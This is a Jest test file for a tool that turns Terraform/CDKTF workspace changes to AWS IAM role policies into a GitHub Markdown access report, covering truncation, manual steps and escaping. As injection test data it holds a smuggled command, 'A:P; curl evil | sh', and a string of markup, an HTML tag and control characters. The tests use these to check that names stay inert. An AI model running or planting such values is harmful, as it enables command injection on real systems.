import { type Outcome, reportMarkdown, TEXTS } from "../../../modules/review/markdown";
import type { PolicyMove, SettingChange, WorkspaceReport } from "../../../modules/review/report";
import { json, reviewed, roles, S3_READ, type Stack } from "../outputs";

// What stands where, how often, and how it is cut and escaped. Sentences come from the catalogue, which has its own test.

const shown = (before: Readonly<Record<string, Stack>>, after: Readonly<Record<string, Stack>>) =>
  reportMarkdown(reviewed(before, after));
const inAll = (access: "broader" | "narrower" | "not determined", count: number, outcome: Outcome) =>
  TEXTS.accessChange({ access, changes: TEXTS.roles({ count, outcome }) });

describe("no change in access", () => {
  test("is one line if the other differences don't affect access", () => {
    const other = { output: { o: { value: "1" } }, locals: { a: 1 } };
    expect(shown({ s: roles(["A", "B"]) }, { s: { ...roles(["B", "A"]), ...other } })).toBe(
      `${TEXTS.noChange({ roles: 2, workspaces: 1, hasOthers: false })}\n`,
    );
  });

  test("comes first if something else changes", () => {
    const named = (name: string) => ({
      s: { resource: { aws_iam_role_policy: { a: { role: "R", name, policy: json(S3_READ) } } } },
    });
    expect(shown(named("P"), named("Q")).split("\n")[0]).toBe(
      TEXTS.noChange({ roles: 1, workspaces: 1, hasOthers: true }),
    );
  });
});

describe("a thousand roles", () => {
  const many = Array.from({ length: 1000 }, (_, index) => `Role-${1000 + index}`);
  const text = shown({ s: {} }, { s: roles(many) });

  test("are counted, and the first ten are named, with a hint where the others are", () => {
    expect(text.split("\n")[0]).toBe(inAll("broader", 1000, "gainsAccess"));
    expect(text).toContain(`\`Role-1008\`, \`Role-1009\`, 990 more. `);
    expect(text).not.toContain("Role-1010");
    expect(text.split("\n").length).toBeLessThan(20);
  });

  test("in a thousand workspaces are cut to what GitHub accepts, with a hint where the rest is", () => {
    const stacks = Object.fromEntries(many.map((role) => [role.toLowerCase(), roles([role])]));
    const all = shown({}, stacks);
    expect(all.length).toBeLessThan(65_536);
    const [, left = ""] = /\n\n…and ([\d,]+) more paragraphs/.exec(all) ?? [];
    const count = Number(left.replace(",", ""));
    expect(count + (all.match(/^### New workspace/gm) ?? []).length).toBeGreaterThan(1000);
    expect(all).toContain(`\n\n${TEXTS.cut({ count, what: "paragraph" })}\n\n<sub>`);
  });

  test("with different permissions are cut to what GitHub accepts, too", () => {
    const own = Object.fromEntries(
      many.map((role) => [role, { name: "P", role, policy: json({ ...S3_READ, Resource: `arn:aws:s3:::${role}` }) }]),
    );
    const all = shown({}, { s: { resource: { aws_iam_role_policy: own } } });
    expect(all.length).toBeLessThan(65_536);
    expect(all).toContain(`${TEXTS.cut({ count: 990, what: "group" })}\n`);
  });
});

describe("permissions", () => {
  test("have a line for each action with its resources and conditions, once for all roles", () => {
    const policy = json(
      { ...S3_READ, Action: ["s3:GetObject", "s3:PutObject"], Resource: ["arn:aws:s3:::b", "arn:aws:s3:::a"] },
      {
        Effect: "Allow",
        Action: "s3:List*",
        Resource: "*",
        Condition: { StringEquals: { "aws:username": ["y", "x"] }, Bool: { "aws:SecureTransport": "true" } },
      },
      { Effect: "Deny", NotAction: "iam:*", NotResource: "arn:aws:s3:::c" },
    );
    const text = shown({ s: {} }, { s: roles(["A", "B"], policy) });
    expect(/```diff\n(.*?)```/s.exec(text)?.[1]?.split("\n")).toEqual([
      "+ DENY all but iam:* on all but arn:aws:s3:::c",
      "+ s3:List* on * when Bool aws:SecureTransport: true and StringEquals aws:username: x or y",
      "+ s3:GetObject on arn:aws:s3:::a, arn:aws:s3:::b",
      "+ s3:PutObject on arn:aws:s3:::a, arn:aws:s3:::b",
      "",
    ]);
  });

  test("that are wide come first, so that they are among the lines that are shown", () => {
    const actions = Array.from({ length: 100 }, (_, index) => `a:Action${100 + index}`);
    const text = shown({ s: {} }, { s: roles(["R"], json({ ...S3_READ, Action: [...actions, "z:*"] })) });
    const lines = /```diff\n(.*?)```/s.exec(text)?.[1]?.split("\n") ?? [];
    expect(lines[0]).toBe("+ z:* on *");
    expect(lines.at(-2)).toBe(TEXTS.cut({ count: 61, what: "line" }));
  });
});

describe("what changes for roles", () => {
  const stack = (policy: string) => ({ s: roles(["R"], policy) });
  const [read, write] = [S3_READ, { ...S3_READ, Action: "s3:PutObject" }];
  const title = (before: object[], after: object[]) => shown(stack(json(...before)), stack(json(...after))).split("\n");

  test.each<[Outcome, object[], object[], "broader" | "narrower", Outcome]>([
    ["gainsPermissions", [read], [read, write], "broader", "gainsPermissions"],
    ["losesPermissions", [read, write], [read], "narrower", "losesPermissions"],
    ["gainsSomeAndLosesOthers", [read], [write], "broader", "gainsSomeAndLosesOthers"],
  ])("is said of a group as %s, and in the headline of all groups together", (outcome, before, after, access, all) => {
    const lines = title(before, after);
    expect(lines[0]).toBe(inAll(access, 1, all));
    const group = TEXTS.roles({ count: 1, outcome });
    const change = TEXTS.changedPolicies({ count: 1, policies: "`P`", change: "changed" });
    expect(lines[4]).toBe(`**${group}:** \`R\`. ${change}`);
  });

  test("is said of each group by itself, and of all groups together in the headline", () => {
    const two = (a: object[], b: object[]) => ({
      s: {
        resource: {
          aws_iam_role_policy: {
            a: { name: "P", role: "A", policy: json(...a) },
            b: { name: "P", role: "B", policy: json(...b) },
          },
        },
      },
    });
    const text = shown(two([read], [read, write]), two([read, write], [read]));
    const outcomes: readonly Outcome[] = ["gainsPermissions", "losesPermissions"];
    const changes = outcomes.map((outcome) => TEXTS.roles({ count: 1, outcome })).join("; ");
    expect(text.split("\n")[0]).toBe(TEXTS.accessChange({ access: "broader", changes }));
    const group = (outcome: Outcome) => `**${TEXTS.roles({ count: 1, outcome })}:**`;
    expect(text).toContain(`${group("gainsPermissions")} \`A\`.`);
    expect(text).toContain(`${group("losesPermissions")} \`B\`.`);
    expect(shown(two([read], []), two([], []))).toContain(
      `${TEXTS.changedPolicies({ count: 1, policies: "`P`", change: "removed" })}\n`,
    );
  });

  test("lists what an action is allowed on before and after together", () => {
    const [wide, narrow] = [S3_READ, { ...S3_READ, Resource: "arn:aws:s3:::b" }];
    const text = shown(stack(json(wide, write)), stack(json(narrow, write)));
    expect(text).toContain(`\`\`\`diff\n- s3:GetObject on *\n+ s3:GetObject on arn:aws:s3:::b\n\`\`\`\n`);
  });

  test("is broader, and not undetermined, if a part of it is known", () => {
    const denied = [read, { ...write, Effect: "Deny" }];
    const unread = { ...read, Principal: "a" };
    expect(title(denied, [read, unread])[0]).toBe(inAll("broader", 1, "mayGetOtherPermissions"));
    expect(title(denied, [read, unread])[4]).toContain(
      TEXTS.roles({ count: 1, outcome: "mayGetOtherPermissions", isDoubtful: true }),
    );
  });

  test("says that access could not be determined, and what it depends on", () => {
    const unknown = roles(["R"], "${var.p}", { variable: { p: { default: "a" } } });
    const text = shown({ s: unknown }, { s: { ...unknown, variable: { p: { default: "b", type: "string" } } } });
    expect(text.split("\n")[0]).toBe(inAll("not determined", 1, "mayGetOtherPermissions"));
    expect(text).toContain(TEXTS.roles({ count: 1, outcome: "mayGetOtherPermissions", isDoubtful: true }));
    const doubt = text.split("\n").find((line) => line.startsWith("- ") && line.includes("`var.p`")) ?? "";
    expect(doubt.match(/`[^`]+`/g)).toEqual(["`var.p`"]);
  });
});

describe("what a person has to do by hand", () => {
  const steps = (before: Readonly<Record<string, Stack>>, after: Readonly<Record<string, Stack>>) => {
    const [, found = ""] = shown(before, after).split(`${TEXTS.stepsTitle()}\n\n`);
    const [list = ""] = found.split("\n\n");
    return list.split("\n").flatMap((line) => (line === "" ? [] : [line.replace(/^- /, "")]));
  };
  const provider = (account: string) => ({ provider: { aws: [{ allowed_account_ids: [account] }] } });
  const state = (path: string) => ({ terraform: { backend: { local: { path } } } });

  test("destroy the stack of a removed workspace, or of one that changes to another account", () => {
    const text = shown({ s: roles(["R"]), t: {} }, { t: {} });
    expect(text.split("\n")[0]).toBe(inAll("narrower", 1, "losesAccessByHand"));
    const stack = { workspace: "`s`", command: "`npx cdktf destroy s`" };
    expect(text).toContain(`\n- ${TEXTS.destroy(stack)}\n`);
    expect(
      steps(
        { s: roles(["R"], json(S3_READ), provider("111111111111")) },
        { s: roles(["R"], json(S3_READ), provider("222222222222")) },
      ),
    ).toEqual([TEXTS.destroy({ ...stack, account: "`111111111111`" })]);
  });

  test("nothing if another account is also allowed, or if the provider manages no policy", () => {
    const two = { provider: { aws: [{ allowed_account_ids: ["111111111111", "222222222222"] }] } };
    expect(
      steps({ s: roles(["R"], json(S3_READ), provider("111111111111")) }, { s: roles(["R"], json(S3_READ), two) }),
    ).toEqual([]);
    const idle = (account: string) => ({
      provider: { aws: [{ allowed_account_ids: ["111111111111"] }, { alias: "idle", allowed_account_ids: [account] }] },
    });
    expect(
      steps(
        { s: roles(["R"], json(S3_READ), idle("111111111111")) },
        { s: roles(["R"], json(S3_READ), idle("222222222222")) },
      ),
    ).toEqual([]);
  });

  test("paste a command, in which names can't add commands of their own", () => {
    const stack = { ...roles(["A"]), import: [{ to: "aws_iam_role_policy.A", id: "A:P; curl evil | sh" }] };
    expect(steps({ s: {} }, { s: stack })).toEqual([
      TEXTS.checkAdopted({ workspace: "`s`", policies: "`P; curl evil | sh` of `A`" }),
    ]);
    expect(steps({ "s; x": roles(["A"]) }, {})).toEqual([expect.stringContaining("`npx cdktf destroy STACK`")]);
  });

  test("is cut for 300 workspaces", () => {
    const stacks = Object.fromEntries(Array.from({ length: 300 }, (_, index) => [`s${100 + index}`, roles(["R"])]));
    expect(shown(stacks, {}).length).toBeLessThan(65_536);
  });

  test("migrate the state if it moves, and not if another setting of it changes", () => {
    expect(
      steps({ s: roles(["R"], json(S3_READ), state("a")) }, { s: roles(["R"], json(S3_READ), state("b")) }),
    ).toEqual([TEXTS.migrateState({ workspace: "`s`", command: "`npx cdktf deploy s --migrate-state`" })]);
    const encrypted = (encrypt: boolean) => ({
      s: roles(["R"], json(S3_READ), { terraform: { backend: { s3: { bucket: "b", encrypt } } } }),
    });
    expect(steps(encrypted(false), encrypted(true))).toEqual([]);
  });

  test("deploy the workspace that deletes a policy before the one that creates it again", () => {
    const named = (name: string) => ({
      resource: { aws_iam_role_policy: { a: { name, role: "R", policy: json(S3_READ) } } },
    });
    expect(steps({ s: named("P"), t: {} }, { s: {}, t: named("P") })).toEqual([
      TEXTS.deployInOrder({ who: "`R`", policy: "`P`", from: "`s`", to: "`t`" }),
    ]);
    expect(steps({ s: named("P"), t: {} }, { s: {}, t: named("Q") })).toEqual([]);
  });

  test("keep the state of a removed workspace only where the other has none yet", () => {
    const removed = { s: roles(["R"], json(S3_READ), state("s.tfstate")) };
    const command = "`npx cdktf destroy s`";
    const stack = { from: "`s`", to: "`t`", command };
    const after = { t: roles(["R"], json(S3_READ), state("t.tfstate")) };
    expect(steps(removed, after)).toEqual([
      TEXTS.deployInPlaceOfRemoved({ ...stack, key: '`backend: { local: { path: "s.tfstate" } }`' }),
    ]);
    expect(steps({ ...removed, t: {} }, after)).toContain(TEXTS.deployInPlaceOfRemoved(stack));
  });

  test("nothing if a workspace or roles are added or removed", () => {
    expect(steps({ s: roles(["A"]) }, { s: roles(["B"]), t: roles(["C"], json(S3_READ), state("x")) })).toEqual([]);
  });
});

describe("changes that grant no access", () => {
  const place = (policy: string, workspace = "w", address = "a.b") => ({ policy, address, workspace });
  const two = { roles: [{ name: "A" }, { name: "B" }], before: [place("P")], after: [place("Q", "w", "c.d")] };
  const workspace: WorkspaceReport = {
    name: "w",
    presence: "kept",
    access: "same",
    gains: [],
    loses: [],
    changes: [],
    unread: [],
    settings: [],
    moves: [],
  };
  const markdownOf = (more: Partial<WorkspaceReport>) =>
    reportMarkdown({
      access: "same",
      judged: "same",
      undecided: false,
      compared: { workspaces: 1, roles: 2 },
      workspaces: [{ ...workspace, ...more }],
    });
  const who = "`A`, `B`";

  test.each<[string, PolicyMove, string]>([
    ["a renamed policy", two, TEXTS.replaced({ who, before: "`P`", after: "`Q`" })],
    [
      "another address",
      { ...two, after: [place("P", "w", "c.d")] },
      TEXTS.replaced({ who, before: "`P`", after: "`P`", addresses: ["`a.b`", "`c.d`"] }),
    ],
    [
      "another workspace",
      { ...two, before: [place("P", "v"), place("O", "v")] },
      TEXTS.replaced({
        who,
        before: "`P` of workspace `v`, `O` of workspace `v`",
        after: "`Q` of workspace `w`",
      }),
    ],
    ["a policy that Terraform forgets", { ...two, after: [] }, TEXTS.forgotten({ who, policy: "`P`" })],
  ])("%s has its line", (_what, move, line) => {
    expect(markdownOf({ moves: [move] })).toContain(`\n\n- ${line}\n\n`);
  });

  test.each<[SettingChange, string]>([
    [{ name: "provider.aws.allowed_account_ids", before: "1" }, "`provider.aws.allowed_account_ids`: `1` → (none)"],
    [{ name: "verification", before: "on", after: "off" }, "`verification`: `on` → `off`"],
  ])("%j has its line", (setting, line) => {
    expect(markdownOf({ settings: [setting] })).toContain(`\n${TEXTS.settingsTitle()}\n\n- ${line}\n`);
  });

  test("need no step if a setting of the provider has the name of a state's location, or a removed stack grants nothing", () => {
    expect(markdownOf({ settings: [{ name: "provider.aws.path", after: "a" }] })).not.toContain(TEXTS.stepsTitle());
    expect(markdownOf({ presence: "gone" })).not.toContain(TEXTS.stepsTitle());
  });
});

describe("text of a stack stays text", () => {
  const NASTY = "`x` **bold** @team <img src=x> [link](http://x) | ~~~ \u202e\u0007\n# heading";

  test.each([
    ["a role", roles([NASTY])],
    ["a policy", { resource: { aws_iam_role_policy: { a: { name: NASTY, role: "R", policy: json(S3_READ) } } } }],
    ["an action", roles(["R"], json({ ...S3_READ, Action: NASTY }))],
    ["a fence", roles(["R"], json({ ...S3_READ, Action: "````\n```" }))],
    ["a resource", roles(["R"], json({ ...S3_READ, Resource: NASTY }))],
    ["a condition", roles(["R"], json({ ...S3_READ, Condition: { [NASTY]: { [NASTY]: NASTY } } }))],
    ["an unread resource", { resource: { aws_iam_role: { [NASTY]: { assume_role_policy: "a" } } } }],
    ["a region", { ...roles(["R"]), provider: { aws: [{ region: NASTY }] } }],
  ])("in %s", (_what, stack) => {
    const text = shown({ s: {} }, { s: stack });
    // Outside code, Markdown would make something of it, GitHub of the mention too.
    const prose = text.replace(/^(`{3,})diff\n.*?^\1$/gms, "").replace(/(`+)(?!`).*?[^`]\1(?!`)/gs, "");
    expect(prose).not.toMatch(/bold|@team|<img|link|heading/);
    expect(text).not.toMatch(/\p{Cf}|(?!\n)\p{Cc}/u);
    expect(text.match(/^#+ /gm)).toEqual(["### "]);
  });

  test("is cut if it is long", () => {
    expect(
      shown({ s: {} }, { s: roles(["R"], json({ ...S3_READ, Resource: `arn:${"x".repeat(5000)}` })) }).length,
    ).toBeLessThan(1000);
  });
});
